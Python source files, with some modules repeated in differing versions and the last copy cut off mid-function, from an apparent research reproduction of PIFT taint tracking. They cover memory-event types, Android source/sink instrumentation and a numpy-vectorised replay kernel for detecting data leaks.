    kind: AccessKind
    address_range: AddressRange
    instruction_index: int
    pid: int = 0

    @property
    def is_load(self) -> bool:
        return self.kind is AccessKind.LOAD

    @property
    def is_store(self) -> bool:
        return self.kind is AccessKind.STORE


def load(start: int, end: int, instruction_index: int, pid: int = 0) -> MemoryAccess:
    """Convenience constructor for a load event over ``[start, end]``."""
    return MemoryAccess(AccessKind.LOAD, AddressRange(start, end), instruction_index, pid)


def store(start: int, end: int, instruction_index: int, pid: int = 0) -> MemoryAccess:
    """Convenience constructor for a store event over ``[start, end]``."""
    return MemoryAccess(AccessKind.STORE, AddressRange(start, end), instruction_index, pid)


class EventTrace:
    """A materialised sequence of memory events plus the total instruction count.

    The total count matters because metrics such as the paper's Figure 2c
    (distance between consecutive loads) and the tainting window itself are
    measured in *instructions*, of which memory events are a strict subset.
    """

    def __init__(self, events: Iterable[MemoryAccess] = (), instruction_count: int = 0) -> None:
        self.events: List[MemoryAccess] = list(events)
        if self.events:
            highest = max(e.instruction_index for e in self.events) + 1
        else:
            highest = 0
        self.instruction_count = max(instruction_count, highest)

    def __len__(self) -> int:
        return len(self.events)

    def __iter__(self) -> Iterator[MemoryAccess]:
        return iter(self.events)

    def append(self, event: MemoryAccess) -> None:
        self.events.append(event)
        if event.instruction_index >= self.instruction_count:
            self.instruction_count = event.instruction_index + 1

    @property
    def load_count(self) -> int:
        return sum(1 for e in self.events if e.is_load)

    @property
    def store_count(self) -> int:
        return sum(1 for e in self.events if e.is_store)

    def loads(self) -> Iterator[MemoryAccess]:
        return (e for e in self.events if e.is_load)

    def stores(self) -> Iterator[MemoryAccess]:
        return (e for e in self.events if e.is_store)

"""Memory-event model — what the PIFT front-end hands to the tracker.

The paper's §3.3 front-end logic watches the CPU instruction unit and, for
each *memory access* instruction, sends to the PIFT hardware module:

1. the process-specific ID (PID / TTBR),
2. the process-specific instruction counter,
3. the access type (load or store),
4. the read or written address range.

Non-memory instructions advance the instruction counter but generate no
event.  ``MemoryAccess`` is that 4-tuple; the ISA simulator and the malware /
DroidBench traces all speak this type.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, Iterable, Iterator, List, Optional, Sequence

from repro.core.ranges import AddressRange


class AccessKind(enum.Enum):
    """Whether a memory instruction reads or writes memory."""

    LOAD = "load"
    STORE = "store"


@dataclass(frozen=True)
class MemoryAccess:
    """One memory access observed by the PIFT front-end.

    ``instruction_index`` is the per-process instruction sequence number *k*
    from Algorithm 1 — it counts every CPU instruction, not just memory
    ones, because the tainting window NI is measured in instructions.
    """

    kind: AccessKind
    address_range: AddressRange
    instruction_index: int
    pid: int = 0

    @property
    def is_load(self) -> bool:
        return self.kind is AccessKind.LOAD

    @property
    def is_store(self) -> bool:
        return self.kind is AccessKind.STORE


def load(start: int, end: int, instruction_index: int, pid: int = 0) -> MemoryAccess:
    """Convenience constructor for a load event over ``[start, end]``."""
    return MemoryAccess(AccessKind.LOAD, AddressRange(start, end), instruction_index, pid)


def store(start: int, end: int, instruction_index: int, pid: int = 0) -> MemoryAccess:
    """Convenience constructor for a store event over ``[start, end]``."""
    return MemoryAccess(AccessKind.STORE, AddressRange(start, end), instruction_index, pid)


class ColumnArrays:
    """Contiguous numpy encodings of an :class:`EventColumns` instance.

    ``starts``/``ends``/``indices``/``pids`` are int64 arrays, ``is_load``
    is a bool array — the layout the vectorised pre-filter kernel
    (:mod:`repro.core.vectorized`) runs its ``searchsorted`` overlap
    tests over.  ``pid_values`` is the sorted tuple of distinct PIDs, so
    the kernel's per-block classification skips the per-PID machinery
    entirely on single-process traces.  Built once per column encoding
    and cached (:meth:`EventColumns.arrays`).
    """

    __slots__ = ("starts", "ends", "is_load", "indices", "pids", "pid_values")

    def __init__(self, starts, ends, is_load, indices, pids, pid_values) -> None:
        self.starts = starts
        self.ends = ends
        self.is_load = is_load
        self.indices = indices
        self.pids = pids
        self.pid_values = pid_values

    def same_pid_run(self, lo: int, hi: int) -> int:
        """End of the run of consecutive same-PID events starting at ``lo``.

        Returns the smallest ``j`` in ``(lo, hi]`` such that every event
        in ``[lo, j)`` shares ``pids[lo]``'s PID and either ``j == hi``
        or ``pids[j]`` differs.  The dense executor segments the event
        stream into these runs so window evolution and bulk range-set
        commits stay per-process, matching the scalar loop's per-PID
        state exactly.
        """
        if len(self.pid_values) == 1:
            return hi
        window = self.pids[lo:hi]
        switches = window != window[0]
        if not switches.any():
            return hi
        import numpy

        return lo + int(numpy.argmax(switches))


class EventColumns:
    """A pre-encoded column view of an event stream — the batch fast path.

    ``PIFTTracker.observe_columns`` iterates these parallel lists instead
    of per-event attribute chains (``event.pid``, ``event.is_load``, ...),
    which is where most of the per-event Python overhead lives.  Encode
    once (``EventTrace.columns()`` caches the encoding), replay many times
    — the record-once/replay-many shape every ``(NI, NT)`` sweep has.
    """

    __slots__ = ("events", "is_loads", "ranges", "indices", "pids", "_arrays")

    def __init__(
        self,
        events: Sequence[MemoryAccess],
        is_loads: List[bool],
        ranges: List[AddressRange],
        indices: List[int],
        pids: List[int],
    ) -> None:
        self.events = events
        self.is_loads = is_loads
        self.ranges = ranges
        self.indices = indices
        self.pids = pids
        self._arrays: Optional[ColumnArrays] = None

    @classmethod
    def from_events(cls, events: Iterable[MemoryAccess]) -> "EventColumns":
        materialised = list(events)
        is_loads: List[bool] = []
        ranges: List[AddressRange] = []
        indices: List[int] = []
        pids: List[int] = []
        for event in materialised:
            is_loads.append(event.kind is AccessKind.LOAD)
            ranges.append(event.address_range)
            indices.append(event.instruction_index)
            pids.append(event.pid)
        return cls(materialised, is_loads, ranges, indices, pids)

    def arrays(self) -> ColumnArrays:
        """The cached :class:`ColumnArrays` numpy view (built on first use)."""
        if self._arrays is None:
            import numpy

            count = len(self.indices)
            pids = numpy.fromiter(self.pids, numpy.int64, count)
            self._arrays = ColumnArrays(
                starts=numpy.fromiter(
                    (r.start for r in self.ranges), numpy.int64, count
                ),
                ends=numpy.fromiter(
                    (r.end for r in self.ranges), numpy.int64, count
                ),
                is_load=numpy.fromiter(self.is_loads, numpy.bool_, count),
                indices=numpy.fromiter(self.indices, numpy.int64, count),
                pids=pids,
                pid_values=tuple(int(p) for p in numpy.unique(pids)),
            )
        return self._arrays

    def __len__(self) -> int:
        return len(self.indices)


class EventTrace:
    """A materialised sequence of memory events plus the total instruction count.

    The total count matters because metrics such as the paper's Figure 2c
    (distance between consecutive loads) and the tainting window itself are
    measured in *instructions*, of which memory events are a strict subset.

    Instruction indices are *per process* (§3.3), so the total instruction
    count of a multi-process trace is the **sum of per-PID maxima**, not the
    single highest index seen; a per-PID high-water dict keeps the sum
    exact.  Non-memory instructions (which generate no event) are accounted
    via :meth:`note_instruction`.
    """

    def __init__(self, events: Iterable[MemoryAccess] = (), instruction_count: int = 0) -> None:
        self.events: List[MemoryAccess] = list(events)
        self._retired: Dict[int, int] = {}
        for event in self.events:
            if event.instruction_index >= self._retired.get(event.pid, 0):
                self._retired[event.pid] = event.instruction_index + 1
        self._floor = instruction_count
        self._columns: Optional[EventColumns] = None

    @property
    def instruction_count(self) -> int:
        """Total instructions across all processes (sum of per-PID maxima)."""
        return max(self._floor, sum(self._retired.values()))

    @instruction_count.setter
    def instruction_count(self, value: int) -> None:
        # Legacy direct assignment acts as a floor on the derived total.
        self._floor = value

    @property
    def per_pid_instruction_counts(self) -> Dict[int, int]:
        """Instructions retired per PID (max index + 1 for each process)."""
        return dict(self._retired)

    def note_instruction(self, instruction_index: int, pid: int = 0) -> None:
        """Account a non-memory instruction (advances the PID's counter)."""
        if instruction_index >= self._retired.get(pid, 0):
            self._retired[pid] = instruction_index + 1

    def __len__(self) -> int:
        return len(self.events)

    def __iter__(self) -> Iterator[MemoryAccess]:
        return iter(self.events)

    def append(self, event: MemoryAccess) -> None:
        self.events.append(event)
        if event.instruction_index >= self._retired.get(event.pid, 0):
            self._retired[event.pid] = event.instruction_index + 1
        self._columns = None

    def columns(self) -> EventColumns:
        """The cached column encoding (rebuilt after any :meth:`append`)."""
        if self._columns is None or len(self._columns) != len(self.events):
            self._columns = EventColumns.from_events(self.events)
        return self._columns

    def __getstate__(self) -> dict:
        # The column cache is derived data; drop it so pickled traces
        # (sweep-worker payloads) don't carry it twice.
        state = self.__dict__.copy()
        state["_columns"] = None
        return state

    @property
    def load_count(self) -> int:
        return sum(1 for e in self.events if e.is_load)

    @property
    def store_count(self) -> int:
        return sum(1 for e in self.events if e.is_store)

    def loads(self) -> Iterator[MemoryAccess]:
        return (e for e in self.events if e.is_load)

    def stores(self) -> Iterator[MemoryAccess]:
        return (e for e in self.events if e.is_store)

"""PIFT Manager — the Android-framework layer of the paper's Figure 3.

The manager instruments each type of sensitive data *source* (such as
``LocationManager``) so that data fetched by an application is registered
with tracking, and each *sink* (such as ``SmsManager``) so that outgoing
data is checked for taint.  Registration and checking follow the same
framework-level placement as TaintDroid's instrumentation (paper §3.1).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, List, Optional

from repro.core.module import LeakEvent, PIFTKernelModule
from repro.core.native import PIFTNative

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for annotations
    from repro.telemetry import Telemetry


@dataclass(frozen=True)
class SourceRecord:
    """One sensitive datum registered at a source instrumentation point."""

    source_name: str
    pid: int


@dataclass(frozen=True)
class SinkReport:
    """Outcome of a sink-side check."""

    sink_name: str
    pid: int
    tainted: bool


class PIFTManager:
    """Framework-level source/sink instrumentation entry points."""

    def __init__(
        self, native: PIFTNative, telemetry: Optional["Telemetry"] = None
    ) -> None:
        self._native = native
        self.sources_registered: List[SourceRecord] = []
        self.sink_reports: List[SinkReport] = []
        self._tel: Optional["Telemetry"] = None
        if telemetry is not None and telemetry.enabled:
            self._tel = telemetry
            m = telemetry.metrics
            self._m_sources = m.counter(
                "manager.sources_registered", "framework source events"
            )
            self._m_checks = m.counter(
                "manager.sink_checks", "framework sink checks"
            )
            self._m_leaks = m.counter(
                "manager.leaks", "sink checks that found taint"
            )

    @property
    def native(self) -> PIFTNative:
        return self._native

    @property
    def module(self) -> PIFTKernelModule:
        return self._native.module

    def register_source(self, source_name: str, value: object, pid: int = 0) -> None:
        """Instrumented source fetched ``value``; taint its backing memory."""
        self._native.register_value(value, pid=pid)
        self.sources_registered.append(SourceRecord(source_name, pid))
        if self._tel is not None:
            self._m_sources.inc()
            self._tel.event("source_register", source=source_name, pid=pid)

    def check_sink(self, sink_name: str, value: object, pid: int = 0) -> bool:
        """Instrumented sink is about to emit ``value``; query its taint."""
        tainted = self._native.check_value(
            value, pid=pid, sink_description=sink_name
        )
        self.sink_reports.append(SinkReport(sink_name, pid, tainted))
        if self._tel is not None:
            self._m_checks.inc()
            if tainted:
                self._m_leaks.inc()
            self._tel.event(
                "sink_check", sink=sink_name, pid=pid, tainted=tainted
            )
        return tainted

    @property
    def detected_leaks(self) -> List[LeakEvent]:
        """All leak events the kernel module raised during this run."""
        return self.module.leak_events

    @property
    def leak_detected(self) -> bool:
        return any(report.tainted for report in self.sink_reports)

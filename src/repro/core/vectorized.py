"""Vectorised columnar pre-filter for the replay hot loop.

Hardware DIFT engines get their speed by processing taint checks as wide
parallel bit operations off the critical path; this module is the numpy
analogue for PIFT's Algorithm 1.  The observation: on the traces PIFT
cares about (DroidBench apps, malware payloads, long background
workloads) the overwhelming majority of memory events are *irrelevant* —
they advance counters but cannot change window or taint state:

* a **load** that overlaps no tainted range opens no window;
* a **store** with no open (and unexhausted) tainting window in its
  process is not a taint candidate, and — when untainting is off, or the
  store overlaps no tainted range — not an untaint candidate either.

Both conditions are pure functions of state that only changes at the
*relevant* events themselves (tainted loads, taints, untaints, source
registrations).  So the kernel classifies whole blocks of the column
encoding with ``np.searchsorted`` overlap tests against a sorted-interval
numpy mirror of each PID's :class:`~repro.core.ranges.RangeSet`
(:meth:`~repro.core.ranges.RangeSet.as_arrays`, refreshed on mutation via
the range set's version counter), bulk-accounts the irrelevant prefix run
in O(distinct PIDs), and drops into the exact scalar loop
(:meth:`~repro.core.tracker.PIFTTracker.observe_columns_scalar`) only
around events that can matter.

Soundness argument (the property suite in
``tests/property/test_batch_parity.py`` checks this bit-for-bit):

* classification happens at a *sync point* where no event has been
  skipped past; skipped events are exactly those whose scalar processing
  would touch nothing but ``loads_observed`` / ``stores_observed`` and
  the per-PID instruction high-water marks, which the bulk accounting
  reproduces exactly (the high-water updates telescope, so applying the
  per-PID maximum equals applying every index in sequence);
* a relevant event can invalidate the remaining classification (a taint
  grows the overlap set; a tainted load opens a window), so the kernel
  never skips past one — it scalar-processes a short run and re-syncs;
* untaints and propagation-cap exhaustion only *shrink* the relevant
  set, so a stale classification stays conservative, never unsound.

The kernel is an execution strategy, not a semantics change: it requires
the unbounded :class:`~repro.core.ranges.RangeSet` backend (bounded
hardware models mutate on eviction inside ``add`` and may keep LRU state,
so skipping their queries would change behaviour) and is bypassed
entirely when a telemetry shadow is bound over ``observe``.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

try:
    import numpy as _np
except ImportError:  # pragma: no cover - numpy is a hard dependency
    _np = None

if TYPE_CHECKING:  # pragma: no cover - annotation-only imports
    from repro.core.events import ColumnArrays, EventColumns
    from repro.core.tracker import PIFTTracker

#: Is the kernel usable at all (numpy importable)?
HAVE_NUMPY = _np is not None

#: First classification block; doubled after every fully-irrelevant block.
BLOCK_MIN = 512

#: Classification block ceiling — caps per-sync numpy work so taint-dense
#: regions never pay more than O(BLOCK_MAX) per relevant event.
BLOCK_MAX = 65536

#: Events handed to the scalar loop after each relevant hit before the
#: kernel re-classifies.  Amortises classification cost in dense regions.
SCALAR_RUN = 64

#: Density bail-out: once this many events have gone through scalar runs,
#: the kernel compares skipped vs scalar-processed counts and, if fewer
#: than half were skippable, hands the rest of the slice to the scalar
#: loop outright — taint-dense traces then pay one bounded classification
#: overhead instead of a per-run tax.
BAILOUT_AFTER = 512


def _pid_relevance(
    tracker: "PIFTTracker",
    pid: int,
    loads_m,
    query_start,
    query_end,
    query_index,
):
    """Relevance mask for one PID's events, given the sync-point state.

    Relevance:

    * load overlapping the PID's taint state (would open a window),
    * store inside the PID's open, unexhausted window (would taint),
    * store overlapping the PID's taint state while untainting is on
      (would untaint).
    """
    config = tracker.config
    state = tracker._states.get(pid)
    if state is not None and len(state):
        starts, ends = state.as_arrays()
        candidate = _np.searchsorted(starts, query_end, side="right") - 1
        hit = (candidate >= 0) & (ends[candidate] >= query_start)
        # Overlapping loads open windows; overlapping stores untaint
        # (when untainting is on).
        rel = hit if config.untainting else hit & loads_m
    else:
        rel = None
    window = tracker._windows.get(pid)
    if (
        window is not None
        and window.last_tainted_load is not None
        and window.propagations < config.max_propagations
    ):
        horizon = window.last_tainted_load + config.window_size
        in_window = ~loads_m & (query_index <= horizon)
        rel = in_window if rel is None else rel | in_window
    return rel


def _first_relevant(
    tracker: "PIFTTracker",
    arrays: "ColumnArrays",
    lo: int,
    hi: int,
) -> int:
    """Index of the first event in ``[lo, hi)`` that can matter, else ``hi``."""
    loads_m = arrays.is_load[lo:hi]
    query_start = arrays.starts[lo:hi]
    query_end = arrays.ends[lo:hi]
    query_index = arrays.indices[lo:hi]
    pid_values = arrays.pid_values
    if len(pid_values) == 1:
        relevant = _pid_relevance(
            tracker, pid_values[0], loads_m, query_start, query_end,
            query_index,
        )
    else:
        block_pids = arrays.pids[lo:hi]
        relevant = None
        for pid in pid_values:
            member = block_pids == pid
            if not member.any():
                continue
            rel = _pid_relevance(
                tracker, pid, loads_m[member], query_start[member],
                query_end[member], query_index[member],
            )
            if rel is not None and rel.any():
                if relevant is None:
                    relevant = _np.zeros(hi - lo, dtype=bool)
                relevant[member] = rel
    if relevant is None:
        return hi
    hits = _np.flatnonzero(relevant)
    return lo + int(hits[0]) if hits.size else hi


def _skip_run(tracker: "PIFTTracker", arrays: "ColumnArrays", lo: int, hi: int) -> None:
    """Bulk-account the irrelevant events in ``[lo, hi)``.

    Matches what the scalar loop would have done for them: bump the
    load/store counters and advance each PID's instruction high-water
    mark (whose per-event updates telescope to a single per-PID max),
    creating taint state / window entries for first-seen PIDs exactly as
    the scalar loop does on a PID switch.
    """
    stats = tracker.stats
    load_count = int(_np.count_nonzero(arrays.is_load[lo:hi]))
    stats.loads_observed += load_count
    stats.stores_observed += (hi - lo) - load_count
    windows = tracker._windows
    pid_values = arrays.pid_values
    if len(pid_values) == 1:
        pid = pid_values[0]
        if pid not in windows:
            tracker.state(pid)
        window = windows[pid]
        # Per-PID indices are normally non-decreasing, but the scalar
        # loop tolerates regressions via its high-water update; max()
        # (not the last element) keeps the telescoped form identical.
        top = int(arrays.indices[lo:hi].max())
        if top >= window.instructions_retired:
            stats.instructions_observed += top + 1 - window.instructions_retired
            window.instructions_retired = top + 1
        return
    block_pids = arrays.pids[lo:hi]
    block_indices = arrays.indices[lo:hi]
    for pid in pid_values:
        member = block_pids == pid
        if not member.any():
            continue
        if pid not in windows:
            tracker.state(pid)
        window = windows[pid]
        top = int(block_indices[member].max())
        if top >= window.instructions_retired:
            stats.instructions_observed += top + 1 - window.instructions_retired
            window.instructions_retired = top + 1


def observe_columns(
    tracker: "PIFTTracker", columns: "EventColumns", start: int, stop: int
) -> None:
    """Algorithm 1 over ``columns[start:stop)`` with vectorised skipping.

    Alternates between bulk-skipping classified-irrelevant prefix runs
    and exact scalar processing around relevant events.  The block size
    doubles (up to :data:`BLOCK_MAX`) while blocks keep coming back fully
    irrelevant — a fully untainted trace is classified in O(n / BLOCK_MAX)
    numpy passes — and resets after every relevant hit.  Slices that turn
    out taint-dense (skip rate below one half after
    :data:`BAILOUT_AFTER` scalar events) are handed to the scalar loop
    wholesale, bounding the kernel's worst-case overhead.
    """
    if _np is None:  # pragma: no cover - numpy is a hard dependency
        raise RuntimeError("numpy is required for the vectorized kernel")
    arrays = columns.arrays()
    scalar = tracker.observe_columns_scalar
    position = start
    block = BLOCK_MIN
    skipped = 0
    processed = 0
    while position < stop:
        block_end = min(position + block, stop)
        first = _first_relevant(tracker, arrays, position, block_end)
        if first > position:
            _skip_run(tracker, arrays, position, first)
            skipped += first - position
            position = first
        if position >= block_end:
            # Whole block irrelevant: widen the next classification.
            block = min(block * 2, BLOCK_MAX)
            continue
        # A relevant event: let the exact scalar loop process a short run
        # (its mutations may invalidate the rest of the classification),
        # then re-sync against the updated state.
        run_end = min(position + SCALAR_RUN, stop)
        scalar(columns, position, run_end)
        processed += run_end - position
        position = run_end
        block = BLOCK_MIN
        if processed >= BAILOUT_AFTER and skipped < processed:
            scalar(columns, position, stop)
            return

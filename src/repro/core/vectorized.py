"""Vectorised columnar pre-filter for the replay hot loop.

Hardware DIFT engines get their speed by processing taint checks as wide
parallel bit operations off the critical path; this module is the numpy
analogue for PIFT's Algorithm 1.  The observation: on the traces PIFT
cares about (DroidBench apps, malware payloads, long background
workloads) the overwhelming majority of memory events are *irrelevant* —
they advance counters but cannot change window or taint state:

* a **load** that overlaps no tainted range opens no window;
* a **store** with no open (and unexhausted) tainting window in its
  process is not a taint candidate, and — when untainting is off, or the
  store overlaps no tainted range — not an untaint candidate either.

Both conditions are pure functions of state that only changes at the
*relevant* events themselves (tainted loads, taints, untaints, source
registrations).  So the kernel classifies whole blocks of the column
encoding with ``np.searchsorted`` overlap tests against a sorted-interval
numpy mirror of each PID's :class:`~repro.core.ranges.RangeSet`
(:meth:`~repro.core.ranges.RangeSet.as_arrays`, refreshed on mutation via
the range set's version counter), bulk-accounts the irrelevant prefix run
in O(distinct PIDs), and drops into the exact scalar loop
(:meth:`~repro.core.tracker.PIFTTracker.observe_columns_scalar`) only
around events that can matter.

Soundness argument (the property suite in
``tests/property/test_batch_parity.py`` checks this bit-for-bit):

* classification happens at a *sync point* where no event has been
  skipped past; skipped events are exactly those whose scalar processing
  would touch nothing but ``loads_observed`` / ``stores_observed`` and
  the per-PID instruction high-water marks, which the bulk accounting
  reproduces exactly (the high-water updates telescope, so applying the
  per-PID maximum equals applying every index in sequence);
* a relevant event can invalidate the remaining classification (a taint
  grows the overlap set; a tainted load opens a window), so the kernel
  never skips past one — it scalar-processes a short run and re-syncs;
* untaints and propagation-cap exhaustion only *shrink* the relevant
  set, so a stale classification stays conservative, never unsound.

The kernel is an execution strategy, not a semantics change: it requires
the unbounded :class:`~repro.core.ranges.RangeSet` backend (bounded
hardware models mutate on eviction inside ``add`` and may keep LRU state,
so skipping their queries would change behaviour) and is bypassed
entirely when a telemetry shadow is bound over ``observe``.
"""

from __future__ import annotations

import warnings
from typing import TYPE_CHECKING

from repro.core.ranges import AddressRange

try:
    import numpy as _np
except ImportError:  # pragma: no cover - exercised via monkeypatched stubs
    _np = None

if TYPE_CHECKING:  # pragma: no cover - annotation-only imports
    from repro.core.events import ColumnArrays, EventColumns
    from repro.core.tracker import PIFTTracker

#: Is the kernel usable at all (numpy importable)?
HAVE_NUMPY = _np is not None

#: First classification block; doubled after every fully-irrelevant block.
BLOCK_MIN = 512

#: Classification block ceiling — caps per-sync numpy work so taint-dense
#: regions never pay more than O(BLOCK_MAX) per relevant event.
BLOCK_MAX = 65536

#: Events handed to the scalar loop after each relevant hit before the
#: kernel re-classifies.  Amortises classification cost in dense regions.
SCALAR_RUN = 64

#: Density bail-out: once this many events have gone through the scalar
#: loop, the kernel compares vector-handled (skipped + dense-committed)
#: vs scalar-handled counts and, if fewer than half were handled
#: vectorised, hands a *bounded* chunk (:data:`REPROBE_EVERY`) to the
#: scalar loop and re-probes — a dense-prefix/sparse-tail trace regains
#: the fast path once the tail starts, instead of staying scalar forever.
BAILOUT_AFTER = 512

#: Events handed to the scalar loop per density bail-out before the
#: kernel re-probes with a fresh classification window.
REPROBE_EVERY = 4096

#: Ceiling on one dense-executor span (a same-PID run executed with
#: vectorised window evolution and bulk range-set commits).
DENSE_SPAN = 4096

#: Runs shorter than this skip the dense executor — numpy setup on a
#: handful of events costs more than the scalar loop.
DENSE_MIN = 32

#: Content mutations tolerated per dense span before the rest of the
#: span is handed to the scalar loop; every mutation forces a mask
#: patch plus a window re-simulation, so mutation-heavy spans are
#: cheaper scalar.
DENSE_MAX_MUTATIONS = 24

#: Consecutive mutation-budget bail-outs tolerated before the coloured
#: dense path stops re-probing: mask churn (stores that OR new colour
#: bits into covered ranges) makes every span mutation-heavy, so paying
#: full-span classification just to hand off is a pure loss.  After the
#: streak trips, whole :data:`REPROBE_EVERY` chunks go straight to the
#: scalar loop, then the dense path probes again.
DENSE_CHURN_STREAK = 2

#: One-shot flag for the numpy-absence fallback warning.
_numpy_fallback_warned = False


def _pid_relevance(
    tracker: "PIFTTracker",
    pid: int,
    loads_m,
    query_start,
    query_end,
    query_index,
):
    """Relevance mask for one PID's events, given the sync-point state.

    Relevance:

    * load overlapping the PID's taint state (would open a window),
    * store inside the PID's open, unexhausted window (would taint),
    * store overlapping the PID's taint state while untainting is on
      (would untaint).
    """
    config = tracker.config
    state = tracker._states.get(pid)
    if state is not None and len(state):
        starts, ends = state.as_arrays()
        candidate = _np.searchsorted(starts, query_end, side="right") - 1
        hit = (candidate >= 0) & (ends[candidate] >= query_start)
        # Overlapping loads open windows; overlapping stores untaint
        # (when untainting is on).
        rel = hit if config.untainting else hit & loads_m
    else:
        rel = None
    window = tracker._windows.get(pid)
    if (
        window is not None
        and window.last_tainted_load is not None
        and window.propagations < config.max_propagations
    ):
        # Both window edges: the window is the NI instructions *following*
        # the tainted load, so an index below the window-opening load is
        # outside it (matches the scalar loop's two-edge test; without the
        # lower edge, regressed-index stores were classified relevant).
        last = window.last_tainted_load
        in_window = (
            ~loads_m
            & (query_index >= last)
            & (query_index <= last + config.window_size)
        )
        rel = in_window if rel is None else rel | in_window
    return rel


def _first_relevant(
    tracker: "PIFTTracker",
    arrays: "ColumnArrays",
    lo: int,
    hi: int,
) -> int:
    """Index of the first event in ``[lo, hi)`` that can matter, else ``hi``."""
    loads_m = arrays.is_load[lo:hi]
    query_start = arrays.starts[lo:hi]
    query_end = arrays.ends[lo:hi]
    query_index = arrays.indices[lo:hi]
    pid_values = arrays.pid_values
    if len(pid_values) == 1:
        relevant = _pid_relevance(
            tracker, pid_values[0], loads_m, query_start, query_end,
            query_index,
        )
    else:
        block_pids = arrays.pids[lo:hi]
        relevant = None
        for pid in pid_values:
            member = block_pids == pid
            if not member.any():
                continue
            rel = _pid_relevance(
                tracker, pid, loads_m[member], query_start[member],
                query_end[member], query_index[member],
            )
            if rel is not None and rel.any():
                if relevant is None:
                    relevant = _np.zeros(hi - lo, dtype=bool)
                relevant[member] = rel
    if relevant is None:
        return hi
    hits = _np.flatnonzero(relevant)
    return lo + int(hits[0]) if hits.size else hi


def _skip_run(tracker: "PIFTTracker", arrays: "ColumnArrays", lo: int, hi: int) -> None:
    """Bulk-account the irrelevant events in ``[lo, hi)``.

    Matches what the scalar loop would have done for them: bump the
    load/store counters and advance each PID's instruction high-water
    mark (whose per-event updates telescope to a single per-PID max),
    creating taint state / window entries for first-seen PIDs exactly as
    the scalar loop does on a PID switch.
    """
    stats = tracker.stats
    load_count = int(_np.count_nonzero(arrays.is_load[lo:hi]))
    stats.loads_observed += load_count
    stats.stores_observed += (hi - lo) - load_count
    windows = tracker._windows
    pid_values = arrays.pid_values
    if len(pid_values) == 1:
        pid = pid_values[0]
        if pid not in windows:
            tracker.state(pid)
        window = windows[pid]
        # Per-PID indices are normally non-decreasing, but the scalar
        # loop tolerates regressions via its high-water update; max()
        # (not the last element) keeps the telescoped form identical.
        top = int(arrays.indices[lo:hi].max())
        if top >= window.instructions_retired:
            stats.instructions_observed += top + 1 - window.instructions_retired
            window.instructions_retired = top + 1
        return
    block_pids = arrays.pids[lo:hi]
    block_indices = arrays.indices[lo:hi]
    for pid in pid_values:
        member = block_pids == pid
        if not member.any():
            continue
        if pid not in windows:
            tracker.state(pid)
        window = windows[pid]
        top = int(block_indices[member].max())
        if top >= window.instructions_retired:
            stats.instructions_observed += top + 1 - window.instructions_retired
            window.instructions_retired = top + 1


def _overlap_masks(state, query_start, query_end):
    """Exact (hit, contained) masks for query ranges against ``state``.

    ``hit`` is the paper's overlap test; ``contained`` is full coverage
    by a single stored range (a contained taint-add changes no content,
    so the dense executor can commit it as pure counter updates).
    """
    starts, ends = state.as_arrays()
    if not starts.size:
        zeros = _np.zeros(len(query_start), dtype=bool)
        return zeros, zeros.copy()
    c_end = _np.searchsorted(starts, query_end, side="right") - 1
    hit = (c_end >= 0) & (ends[_np.maximum(c_end, 0)] >= query_start)
    c_start = _np.searchsorted(starts, query_start, side="right") - 1
    contained = (c_start >= 0) & (ends[_np.maximum(c_start, 0)] >= query_end)
    return hit, contained


def _dense_span(
    tracker: "PIFTTracker",
    columns: "EventColumns",
    arrays: "ColumnArrays",
    lo: int,
    limit: int,
):
    """Vectorised *execution* of one same-PID run starting at ``lo``.

    The dense-regime engine: instead of handing relevant events to the
    scalar loop one short run at a time, simulate Algorithm 1's window
    evolution for the whole run under fixed overlap masks, bulk-commit
    everything up to the first *content* mutation (taint of uncovered
    bytes, or an effective untaint), process the mutation run through the
    bulk range-set primitives, patch the masks from the merged extent,
    and continue.  Returns ``(consumed, scalar_events)`` so the caller's
    density accounting can tell vector-handled events from scalar ones.

    Soundness (checked bit-for-bit by the parity suite): taint decisions
    depend only on window evolution — hit-load positions, the two window
    edges, and the propagation cap — never on taint *content*, so they
    stay valid across content mutations as long as the masks feeding the
    hit-load positions do; the executor therefore never advances past a
    content mutation without patching the masks, and every quantity it
    bulk-commits (counters, telescoped high-water marks, window state at
    the cut) equals the scalar loop's value by construction.  Contained
    taint-adds mutate no content (a contained add merges into exactly its
    covering range), so they commit as counter updates; per-mutation
    ``max_range_count`` bookkeeping is reproduced either by the
    can't-exceed-the-high-water guard or by per-step fallback.
    """
    run_hi = arrays.same_pid_run(lo, min(lo + DENSE_SPAN, limit))
    n = run_hi - lo
    if n < DENSE_MIN:
        consumed = min(SCALAR_RUN, limit - lo)
        tracker.observe_columns_scalar(columns, lo, lo + consumed)
        return consumed, consumed
    pid = int(arrays.pids[lo])
    if pid not in tracker._windows:
        tracker.state(pid)
    state = tracker._states[pid]
    window = tracker._windows[pid]
    config = tracker.config
    ni = config.window_size
    nt = config.max_propagations
    untainting = config.untainting
    stats = tracker.stats

    K = arrays.indices[lo:run_hi]
    S = arrays.starts[lo:run_hi]
    E = arrays.ends[lo:run_hi]
    L = arrays.is_load[lo:run_hi]
    stores_m = ~L

    if len(state):
        hit, contained = _overlap_masks(state, S, E)
    else:
        hit = _np.zeros(n, dtype=bool)
        contained = hit.copy()

    last = window.last_tainted_load
    props = window.propagations
    p = 0
    mutations = 0
    scalar_events = 0
    while p < n:
        # -- simulate window evolution under the current masks ----------
        hl = _np.flatnonzero(L[p:] & hit[p:]) + p
        seg = _np.searchsorted(hl, _np.arange(p, n), side="right") - 1
        in_seg = seg >= 0
        if hl.size:
            gov = K[hl[_np.maximum(seg, 0)]]
        else:
            gov = _np.zeros(n - p, dtype=_np.int64)
        kk = K[p:]
        if last is not None:
            gov = _np.where(in_seg, gov, last)
            windowed = _np.ones(n - p, dtype=bool)
        else:
            windowed = in_seg
        in_win = stores_m[p:] & windowed & (kk >= gov) & (kk <= gov + ni)
        ranks = _np.cumsum(in_win)
        if hl.size:
            base = _np.where(in_seg, ranks[hl - p][_np.maximum(seg, 0)], 0)
        else:
            base = 0
        cap = _np.where(in_seg, nt, nt - props)
        taint = in_win & (ranks - 1 - base < cap)
        if untainting:
            untaint_cand = stores_m[p:] & ~taint & hit[p:]
        else:
            untaint_cand = _np.zeros(n - p, dtype=bool)
        content_mut = (taint & ~contained[p:]) | untaint_cand
        cuts = _np.flatnonzero(content_mut)
        cut = (int(cuts[0]) + p) if cuts.size else n

